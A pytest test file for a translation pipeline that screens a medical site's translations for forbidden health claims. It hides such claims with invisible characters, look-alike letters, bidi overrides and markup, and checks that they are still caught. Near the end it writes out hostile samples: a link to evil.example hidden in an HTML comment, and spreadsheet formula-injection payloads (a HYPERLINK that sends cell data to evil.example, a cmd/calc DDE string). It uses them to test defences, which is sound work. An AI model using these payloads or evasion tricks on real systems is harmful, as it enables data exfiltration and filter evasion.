"""Forbidden wording is found as a reader sees it (i18n/formats/visible.py): in disguise
(invisible characters, look-alike letters, normalisation forms, a right-to-left override,
optional Arabic marks), split by markup, or in a link's title. Approve blocks it, an override
does not publish it (articles and site strings), render withholds it, check reports it; and
the honest sample translations raise nothing new.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import polib
import pytest
from conftest import copy_project

from i18n.formats.country import load_countries
from i18n.formats.people import load_people
from i18n.model.states import content_hash, entry_id
from i18n.pipeline.claims import find_claims, language_patterns
from i18n.pipeline.signoff import read_trusted
from i18n.project import Project

REPO = Path(__file__).resolve().parent.parent

# (name, German text a reader sees as "Die Behandlung heilt garantiert.")
GERMAN = [
    ("plain", "Die Behandlung heilt garantiert."),
    ("soft hyphen", "Die Behandlung he\u00adilt garan\u00adtiert."),
    ("zero-width space", "Die Behandlung he\u200bilt garan\u200btiert."),
    ("word joiner", "Die Behandlung he\u2060ilt garan\u2060tiert."),
    ("zero-width joiners", "Die Behandlung he\u200dilt garan\u200ctiert."),
    ("combining grapheme joiner", "Die Behandlung he\u034filt garan\u034ftiert."),
    ("variation selector", "Die Behandlung he\ufe0filt garan\ufe0ftiert."),
    ("Cyrillic look-alikes", "Die Behandlung h\u0435ilt g\u0430r\u0430ntiert."),
    ("Greek look-alikes", "Die Behandlung he\u03b9lt garant\u03b9ert."),
    ("full-width letters", "Die Behandlung ｈｅｉｌｔ ｇａｒａｎｔｉｅｒｔ."),
    ("mathematical letters", "Die Behandlung 𝐡𝐞𝐢𝐥𝐭 𝐠𝐚𝐫𝐚𝐧𝐭𝐢𝐞𝐫𝐭."),
    ("right-to-left override", "Die Behandlung \u202etreitnarag tlieh\u202c."),
    ("emphasis inside words", "Die Behandlung h**ei**lt gar*an*tiert."),
    ("character reference", "Die Behandlung &#x68;eilt &#x67;arantiert."),
    ("entity and nbsp", "Die Behandlung heilt&nbsp;garantiert."),
    ("soft line break", "Die Behandlung heilt\ngarantiert."),
    ("link title", 'Die [Behandlung](https://example.org "heilt garantiert") hilft.'),
    ("image alt", "Die Behandlung ![heilt garantiert](/images/x.svg) hilft."),
    ("upper case", "DIE BEHANDLUNG HEILT GARANTIERT."),
]


def patterns(language: str) -> list[re.Pattern[str]]:
    return language_patterns(load_countries(Project(REPO)), language)


@pytest.mark.parametrize(("name", "text"), GERMAN, ids=[n for n, _ in GERMAN])
def test_a_disguised_claim_is_found(name: str, text: str) -> None:
    found = {p for p, _ in find_claims(text, patterns("de"))}
    assert any("garantier" in p for p in found), found
    assert any("heilt" in p for p in found), found


@pytest.mark.parametrize(
    "text",
    [
        "يضمـن الشفاء",  # tatweel
        "يَضْمَنُ الشِّفَاءَ",  # harakat
        "\u064a\u0636\u0645\u0646 \u0627\u0644\u0634\u0641\u0627\u0621",
    ],
)
def test_arabic_with_optional_marks_is_found(text: str) -> None:
    assert find_claims(text, patterns("ar")), text


def test_a_decomposed_french_claim_is_found() -> None:
    assert find_claims("La procédure gue\u0301rit la thrombose.", patterns("fr"))


def test_honest_sample_translations_raise_nothing_new() -> None:
    """Every approved translation of the sample, screened as a reader sees it: no finding."""
    project = Project(REPO)
    people = load_people(project)
    screened = 0
    for locale in ("de", "de_CH", "fr", "tr", "ar"):
        trusted = read_trusted(project, locale, people)
        wanted = patterns(locale)
        for path in sorted((REPO / "locales" / locale / "LC_MESSAGES").glob("*.po")):
            approved = trusted.approved_hashes(path.stem)
            for entry in polib.pofile(str(path)):
                if content_hash(entry) in approved:
                    screened += 1
                    assert find_claims(entry.msgstr, wanted) == [], entry.msgstr
    assert screened > 500


MT = "mechanical-thrombectomy-for-dvt"
SOURCE = "For many patients the whole procedure takes about 1 to 3 hours."


@pytest.mark.slow
@pytest.mark.parametrize(("name", "text"), GERMAN[1:], ids=[n for n, _ in GERMAN[1:]])
def test_a_disguised_claim_is_blocked_withheld_and_reported(
    tmp_path: Path, run, name: str, text: str
) -> None:
    root = copy_project(tmp_path / "proj")
    path = root / "locales" / "de" / "LC_MESSAGES" / f"{MT}.po"
    catalog = polib.pofile(str(path), wrapwidth=79)
    (entry,) = [e for e in catalog if SOURCE in e.msgid]
    entry.msgstr = text
    catalog.save(str(path))
    item = entry_id("de", MT, None, entry.msgid)
    refused = run(root, "approve", "--locale", "de", item)
    assert refused.exit_code == 1 and "blocking claims" in refused.stderr, refused.output
    forced = run(root, "approve", "--locale", "de", item, "--override", "the author insists")
    assert forced.exit_code == 0, forced.output
    rendered = run(root, "render", "--country", "DE")
    assert not (root / "site" / "de" / "de" / f"{MT}.html").exists()
    first = {  # withheld for another reason first: the new link, the bidi override
        "link title": "change the source's links",
        "image alt": "change the source's links",
        "right-to-left override": "bidi controls that reorder it",
    }
    assert first.get(name, "forbidden wording") in rendered.stdout
    checked = run(root, "check", "--country", "DE")
    assert checked.exit_code == 1 and "claim-translation" in checked.stdout


def test_a_claim_in_the_site_strings_is_never_published(tmp_path: Path, run) -> None:
    """--override approves a site string with a claim; render still withholds the locale."""
    root = copy_project(tmp_path / "proj")
    path = root / "locales" / "de" / "LC_MESSAGES" / "site.po"
    catalog = polib.pofile(str(path), wrapwidth=79)
    entry = next(e for e in catalog if e.msgstr and not e.msgid_plural and "%" not in e.msgid)
    entry.msgstr = "Heilt ga\u00adrantiert"
    catalog.save(str(path))
    item = entry_id("de", "site", entry.msgctxt, entry.msgid)
    forced = run(root, "approve", "--locale", "de", item, "--override", "marketing wants it")
    assert forced.exit_code == 0, forced.output
    rendered = run(root, "render", "--country", "DE")
    assert "site.po: text matches forbidden wording" in rendered.stdout
    assert not list((root / "site" / "de").glob("de/*.html"))


def test_the_kept_lookalike_table_is_unicodes() -> None:
    """i18n/data/latin-lookalikes.json is what the confusables data says; after upgrading
    confusable-homoglyphs, regenerate it with
    ``python -c "from i18n.formats.visible import write_lookalikes; write_lookalikes()"``."""
    from i18n.formats.visible import _prototypes, lookalikes_from_unicode

    kept = _prototypes()
    assert kept == lookalikes_from_unicode()
    assert kept["а"] == "a" and kept["ο"] == "o" and "é" not in kept


def _risk_paragraph(root: Path) -> tuple[Path, polib.POFile, polib.POEntry]:
    path = root / "locales" / "de" / "LC_MESSAGES" / f"{MT}.po"
    catalog = polib.pofile(str(path), wrapwidth=79)
    entry = next(e for e in catalog if SOURCE in e.msgid)
    return path, catalog, entry


def test_a_paragraph_turned_into_a_plural_entry_is_refused_and_never_drawn_empty(
    tmp_path: Path, run
) -> None:
    root = copy_project(tmp_path / "proj")
    path, catalog, entry = _risk_paragraph(root)
    entry.msgid_plural = entry.msgid
    entry.msgstr_plural = {0: entry.msgstr, 1: entry.msgstr}
    entry.msgstr = ""
    catalog.save(str(path))
    item = entry_id("de", MT, entry.msgctxt, entry.msgid)
    refused = run(root, "approve", "--locale", "de", item, "--override", "looks fine")
    assert refused.exit_code == 1 and "its template's is not" in refused.stderr
    rendered = run(root, "render", "--country", "DE")
    assert not (root / "site" / "de" / "de" / f"{MT}.html").exists()
    assert "plural entries where the template has none" in rendered.stdout or (
        "not approved" in rendered.stdout
    )


@pytest.mark.parametrize("nothing", ["\u200b", ".", "\u2060 \u00ad", "**\u200b**"])
def test_a_translation_that_shows_nothing_is_blocked_and_never_published(
    tmp_path: Path, run, nothing: str
) -> None:
    root = copy_project(tmp_path / "proj")
    path, catalog, entry = _risk_paragraph(root)
    entry.msgstr = nothing
    catalog.save(str(path))
    item = entry_id("de", MT, entry.msgctxt, entry.msgid)
    refused = run(root, "approve", "--locale", "de", item)
    assert refused.exit_code == 1 and "blocking empty" in refused.stderr
    forced = run(root, "approve", "--locale", "de", item, "--override", "intentional")
    assert forced.exit_code == 0, forced.output
    rendered = run(root, "render", "--country", "DE")
    assert not (root / "site" / "de" / "de" / f"{MT}.html").exists()
    assert "would draw nothing of their source block" in rendered.stdout


def test_a_link_hidden_behind_an_html_comment_is_seen(tmp_path: Path, run) -> None:
    """Parsed with raw HTML off, ``[x <!-- ] -->](url)`` is no link; the page draws it as
    one. QA and the render compare links as the page draws them."""
    root = copy_project(tmp_path / "proj")
    path, catalog, entry = _risk_paragraph(root)
    entry.msgstr += " [Hier bestellen <!-- ] -->](//evil.example/order)"
    catalog.save(str(path))
    item = entry_id("de", MT, entry.msgctxt, entry.msgid)
    refused = run(root, "approve", "--locale", "de", item)
    assert refused.exit_code == 1 and "//evil.example/order" in refused.stderr
    assert run(root, "approve", "--locale", "de", item, "--override", "x").exit_code == 0
    rendered = run(root, "render", "--country", "DE")
    assert not (root / "site" / "de" / "de" / f"{MT}.html").exists()
    assert "change the source's links" in rendered.stdout


def test_limits_are_read_from_the_template_not_from_flags_a_tool_dropped(
    tmp_path: Path, run
) -> None:
    """Poedit and msgcat drop ``max-length:160``; the template keeps it, and so does QA."""
    root = copy_project(tmp_path / "proj")
    path = root / "locales" / "de" / "LC_MESSAGES" / f"{MT}.po"
    catalog = polib.pofile(str(path), wrapwidth=79)
    entry = next(e for e in catalog if e.msgctxt == "description")
    entry.flags = [f for f in entry.flags if not f.startswith("max-length")]
    entry.msgstr = "Wie die mechanische Thrombektomie " + "sehr " * 40 + "hilft."
    catalog.save(str(path))
    item = entry_id("de", MT, "description", entry.msgid)
    refused = run(root, "approve", "--locale", "de", item)
    assert refused.exit_code == 1 and "blocking max-length" in refused.stderr, refused.output


def test_brackets_in_a_translation_or_reason_are_printed_as_they_are(tmp_path: Path, run) -> None:
    """``[/]`` and ``[b]`` are text, not terminal markup: nothing vanishes, nothing crashes."""
    root = copy_project(tmp_path / "proj")
    path, catalog, entry = _risk_paragraph(root)
    entry.msgstr = "Der Eingriff [/] dauert [b]meist[/b] 1 bis 3 Stunden."
    catalog.save(str(path))
    item = entry_id("de", MT, entry.msgctxt, entry.msgid)
    queued = run(root, "queue", "--locale", "de", "--article", MT, "--state", "translated")
    assert queued.exit_code == 0, queued.output
    assert "[/]" in queued.stdout and "[b]meist" in queued.stdout
    rejected = run(root, "reject", "--locale", "de", item, "--reason", "[/] falsch [red]x")
    assert rejected.exit_code == 0, rejected.output
    again = run(root, "queue", "--locale", "de", "--article", MT, "--state", "rejected")
    assert again.exit_code == 0 and "[/]" in again.stdout and "[red]" in again.stdout
    assert run(root, "render", "--country", "DE").exit_code == 0
    assert run(root, "check", "--country", "DE").exit_code in (0, 1)


def test_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path: Path, run) -> None:
    """A translation or a reason that starts like a formula is exported as text (a leading
    apostrophe), so opening the queue in Excel or LibreOffice runs nothing."""
    root = copy_project(tmp_path / "proj")
    path, catalog, entry = _risk_paragraph(root)
    entry.msgstr = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    catalog.save(str(path))
    item = entry_id("de", MT, entry.msgctxt, entry.msgid)
    rejected = run(
        root, "reject", "--locale", "de", item, "--reason", "@SUM(1+1)*cmd|' /C calc'!A0"
    )
    assert rejected.exit_code == 0, rejected.output
    exported = run(
        root, "queue", "--locale", "de", "--article", MT, "--state", "all", "--format", "csv"
    )
    assert exported.exit_code == 0, exported.output
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
    assert rows[item]["msgstr"] == "'" + entry.msgstr
    assert rows[item]["reason"].endswith("@SUM(1+1)*cmd|' /C calc'!A0")
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not any(cell.startswith(starts) for row in rows.values() for cell in row.values())
